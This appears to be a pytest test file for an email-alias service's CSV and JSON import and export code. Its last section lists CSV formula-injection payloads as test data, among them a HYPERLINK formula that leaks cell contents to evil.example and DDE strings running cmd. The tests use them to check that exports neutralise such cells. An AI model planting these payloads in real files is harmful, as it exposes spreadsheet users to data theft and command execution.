"""postmask.porting: import files read as their formats mean them, one row at a time."""

from __future__ import annotations

import json

import pytest

from postmask import porting
from postmask.errors import InvalidRequest


def rows(text: str) -> list[porting.Row]:
    return list(porting.read_csv(text).rows())


@pytest.mark.parametrize(
    ("header", "format_"),
    [
        ("address,destinations,note,enabled,expires_at,created_at", "postmask"),
        ("alias,note,enabled,mailboxes", "simplelogin"),
        ("Alias , Note, Enabled ,MAILBOXES", "simplelogin"),
        ("\ufeffalias,note,enabled,mailboxes", "simplelogin"),  # a spreadsheet's byte-order mark
        ("alias,description,recipient_ids", "addy-import"),
        ("id,user_id,email,active,description,created_at,deleted_at", "addy-export"),
    ],
)
def test_the_format_is_told_by_the_header(header: str, format_: str) -> None:
    assert porting.read_csv(header + "\r\n").format == format_


@pytest.mark.parametrize("text", ["alias,note\n", "a;b;c\n", "email,description\n"])
def test_an_unknown_header_is_refused_with_what_postmask_reads(text: str) -> None:
    with pytest.raises(InvalidRequest, match="SimpleLogin's"):
        porting.read_csv(text)


def test_simplelogin_values() -> None:
    (row,) = rows('alias,note,enabled,mailboxes\r\nA@X.example,"a, b",False,one@x.example  two@x.example\r\n')
    assert (row.number, row.address, row.note, row.enabled) == (2, "A@X.example", "a, b", False)
    assert row.destinations == ["one@x.example", "two@x.example"]


@pytest.mark.parametrize(("value", "enabled"), [("True", True), ("FALSE", False), ("yes", True), ("0", False)])
def test_booleans_in_any_case(value: str, enabled: bool) -> None:
    (row,) = rows(f"alias,note,enabled,mailboxes\na@x.example,,{value},m@x.example\n")
    assert row.enabled is enabled
    assert row.problem is None


def test_a_quoted_note_over_several_lines_is_one_row_and_rows_keep_their_numbers() -> None:
    found = rows(
        'alias,note,enabled,mailboxes\na@x.example,"one\ntwo",True,m@x.example\n\nb@x.example,,True,m@x.example\n'
    )
    assert [(row.address, row.note) for row in found] == [("a@x.example", "one\ntwo"), ("b@x.example", "")]
    assert [row.number for row in found] == [3, 5]  # the line each row ends on, blank lines skipped


def test_addy_ids_are_not_addresses() -> None:
    text = 'alias,description,recipient_ids\na@x.example,d,"477b1a7f-280e-4153-9178-76862b2e0404, me@x.example"\n'
    (row,) = rows(text)
    assert row.destinations == ["me@x.example"]
    assert row.note == "d"


@pytest.mark.parametrize(
    ("active", "deleted", "enabled"), [("1", "", True), ("0", "", False), ("", "", False), ("1", "2025-01-01", False)]
)
def test_addy_export_active_and_deleted(active: str, deleted: str, enabled: bool) -> None:
    (row,) = rows(f"email,active,description,deleted_at\na@x.example,{active},d,{deleted}\n")
    assert row.enabled is enabled


def test_a_malformed_csv_is_refused_whole() -> None:
    source = porting.read_csv('alias,note,enabled,mailboxes\n"open,x,True,m@x.example\n')
    with pytest.raises(InvalidRequest, match="cannot be read"):
        list(source.rows())


def test_the_csv_is_read_as_a_stream() -> None:
    """Rows come one at a time: the first is out before the parser has reached a broken line further on (how much
    memory 10,000 rows take is measured in `make bench`)."""
    text = "alias,note,enabled,mailboxes\na@x.example,,True,m@x.example\n" + "b@x.example,,True,m@x.example\n" * 100
    found = porting.read_csv(text + '"open,x,True,m@x.example\n').rows()
    assert next(found).address == "a@x.example"
    with pytest.raises(InvalidRequest, match="cannot be read"):
        list(found)


# --- JSON ----------------------------------------------------------------------------------------------------


def export(**members: object) -> str:
    return json.dumps({"format": "postmask/1", **members})


def test_a_postmask_export_in_any_member_order() -> None:
    text = json.dumps(
        {
            "aliases": [{"address": "a@x.example", "destinations": ["m@x.example"], "note": "n", "enabled": False}],
            "destinations": [{"email": "m@x.example"}, {"email": "spare@x.example"}, {"nope": 1}],
            "extra": {"ignored": [1, 2]},
            "format": "postmask/1",
        }
    )
    source = porting.read_json(text)
    (row,) = source.rows()
    assert (row.number, row.address, row.destinations, row.note, row.enabled) == (
        1,
        "a@x.example",
        ["m@x.example"],
        "n",
        False,
    )
    assert source.destinations() == ["m@x.example", "spare@x.example"]


@pytest.mark.parametrize(
    "text",
    [
        "",
        "[]",
        '{"format": "postmask/1"',
        '{"format": "postmask/1", "aliases": [1,]}',
        '{"format": "postmask/1"} {}',
        '{"format": "postmask/1", "aliases": ' + "[" * 50_000 + "]" * 50_000 + "}",
        '{"aliases": []}',
        '{"format": "postmask/2", "aliases": []}',
    ],
)
def test_anything_else_is_refused_whole(text: str) -> None:
    with pytest.raises(InvalidRequest):
        porting.read_json(text)


def test_an_alias_that_is_not_an_object_is_a_row_problem() -> None:
    found = list(
        porting.read_json(export(aliases=["a@x.example", {"address": "b@x.example", "enabled": "yes"}])).rows()
    )
    assert [row.problem for row in found] == ["each alias must be an object", "enabled must be true or false"]


def test_an_export_reads_back() -> None:
    aliases = [
        {
            "address": "a@x.example",
            "destinations": ["m@x.example"],
            "note": 'quote " comma , ✓',
            "enabled": True,
            "expires_at": None,
            "created_at": "2026-01-01T00:00:00.000Z",
        }
    ]
    text = porting.export_json("2026-12-01T00:00:00.000Z", [], [{"email": "m@x.example", "status": "pending"}], aliases)
    document = json.loads(text)
    assert document["aliases"][0]["contacts"] == []
    (row,) = porting.read_json(text).rows()
    assert (row.address, row.note) == ("a@x.example", 'quote " comma , ✓')
    csv_text = porting.export_csv(aliases)
    (again,) = rows(csv_text)
    assert (again.address, again.destinations, again.note, again.enabled) == (
        "a@x.example",
        ["m@x.example"],
        'quote " comma , ✓',
        True,
    )


# --- issue 25 item 7: CSV formula injection (OWASP's rule) -------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def exported_cells(note: str) -> list[str]:
    import csv
    import io

    text = porting.export_csv([{"address": "a@alice.example", "destinations": ["me@real.example"], "note": note}])
    return list(csv.reader(io.StringIO(text)))[1]


@pytest.mark.parametrize("note", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_leaves_prefixed_with_a_quote(note: str) -> None:
    assert exported_cells(note)[2] == "'" + note


@pytest.mark.parametrize("note", ["plain", "a = b", "", "'quoted already", "'=already prefixed by its author"])
def test_other_cells_leave_as_they_are_but_one_that_would_lose_its_quote(note: str) -> None:
    expected = "'" + note if note.startswith("'=") else note
    assert exported_cells(note)[2] == expected


@pytest.mark.parametrize("note", [*FORMULAS, "plain", "'quoted already", "'=already prefixed", "''+two"])
def test_a_round_trip_changes_nothing(note: str) -> None:
    text = porting.export_csv([{"address": "a@alice.example", "destinations": ["me@real.example"], "note": note}])
    (row,) = list(porting.read_csv(text).rows())
    assert row.note == note
